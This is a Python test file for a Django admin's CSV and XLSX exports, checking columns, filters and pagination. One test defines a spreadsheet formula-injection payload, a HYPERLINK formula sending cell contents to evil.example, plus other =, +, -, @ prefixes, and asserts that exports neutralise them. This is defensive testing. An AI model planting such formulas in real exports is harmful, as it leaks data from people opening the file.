"""What a list shows leaves as a spreadsheet: every row that it is narrowed to, in plain text, and nothing that runs."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.resources.admin import rows

pytestmark = pytest.mark.django_db


def as_csv(client, address, **query):
    answer = client.get(address, {"export": "csv"} | query)
    text = b"".join(answer).decode("utf-8-sig")
    return answer, list(csv.DictReader(io.StringIO(text, newline="")))


def as_xlsx(client, address, **query):
    answer = client.get(address, {"export": "xlsx"} | query)
    heading, *cells = load_workbook(io.BytesIO(b"".join(answer))).active.iter_rows()
    return answer, [dict(zip([cell.value for cell in heading], row, strict=True)) for row in cells]


def test_goals(admin):
    page = rows.goals_page(rows.on(rows.goal("Aim", text_es="Meta", for_whom="mentee"), "Writing"), title="Goals")
    answer, [line] = as_csv(admin, rows.GOALS)
    assert answer["Content-Disposition"] == 'attachment; filename="goal-examples.csv"'
    assert line == {
        "Text": "Aim",
        "Text in Spanish": "Meta",
        "For whom": "For mentees",
        "Topics": "Writing",
        "To be done": "",
        "Stands in": page.title,
        "Note for editors": "",
    }


def test_activities_with_their_parts_and_where_they_lead(admin):
    work, place = rows.citation("Work"), rows.event("Forum")
    rows.activity("Do", {"text": "First", "citation": work}, {"text": "Second"}, page=place, citation=work)
    _, [line] = as_csv(admin, rows.ACTIVITIES)
    assert (line["Parts"], line["Leads to"]) == ("First\nSecond", "Forum\n(2020) Work")


def test_citations_in_full_with_their_entry_in_apa_as_plain_text(admin):
    rows.citation("<i>Emma</i> & more", authors="Doe, Jo", doi="10.1000/182", editors_note="Ask Jo", draft=True)
    _, [line] = as_csv(admin, rows.CITATIONS)
    assert line["Title"] == "<i>Emma</i> & more"
    assert line["In APA"] == "Doe, J. (2020). Emma & more. Journal. https://doi.org/10.1000/182"
    assert (line["Address"], line["Held back"]) == ("https://doi.org/10.1000/182", "Draft")
    assert (line["Kind"], line["Note for editors"]) == ("Article in a journal or magazine", "Ask Jo")


def test_events_with_days_that_are_days(admin):
    rows.on(rows.event("Forum"), "Writing")
    _, [line] = as_xlsx(admin, rows.EVENTS)
    assert line["First day"].is_date
    assert [line[name].value for name in ("Title", "Topics", "Status", "Language")] == [
        *("Forum", "Writing", "live", "English")
    ]


def test_resource_pages(admin):
    rows.goals_page(title="Goals", live=False)
    _, [line] = as_csv(admin, rows.PAGES)
    assert [line[name] for name in ("Title", "Kind", "To be done", "Status")] == [
        *("Goals", "Goal examples page", "Goals", "draft")
    ]


@pytest.mark.parametrize("read", [as_csv, as_xlsx])
def test_what_is_filtered_and_searched_leaves_from_all_pages(admin, read):
    for n in range(60):
        rows.goal(f"Aim {n}", for_whom="mentor" if n % 2 else "mentee")
    rows.goal("Other", for_whom="mentor")
    _, lines = read(admin, rows.GOALS, for_whom="mentor", q="aim", p=2)
    assert len(lines) == 30


FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize("address", rows.LISTS)
def test_what_somebody_typed_does_not_run_and_breaks_nothing(admin, address):
    work = rows.citation(FORMULA, authors="@SUM(1)", editors_note="\x0bvertical")
    rows.on(rows.goal(FORMULA, text_es="+1"), "=1+1")
    rows.activity(FORMULA, {"text": "-1"}, citation=work)
    rows.event(FORMULA)
    rows.goals_page(title=FORMULA)
    _, lines = as_csv(admin, address)
    assert lines
    assert not [cell for line in lines for cell in line.values() if cell.lstrip().startswith(tuple("=+-@"))]
    _, lines = as_xlsx(admin, address)
    assert "f" not in {cell.data_type for line in lines for cell in line.values()}


@pytest.mark.parametrize("address", rows.LISTS)
def test_every_list_offers_both_and_keeps_the_filter(admin, address):
    page = admin.get(address, {"state": "unused"}).content.decode()
    assert f"{address}?state=unused&amp;export=xlsx" in page
    assert f"{address}?state=unused&amp;export=csv" in page
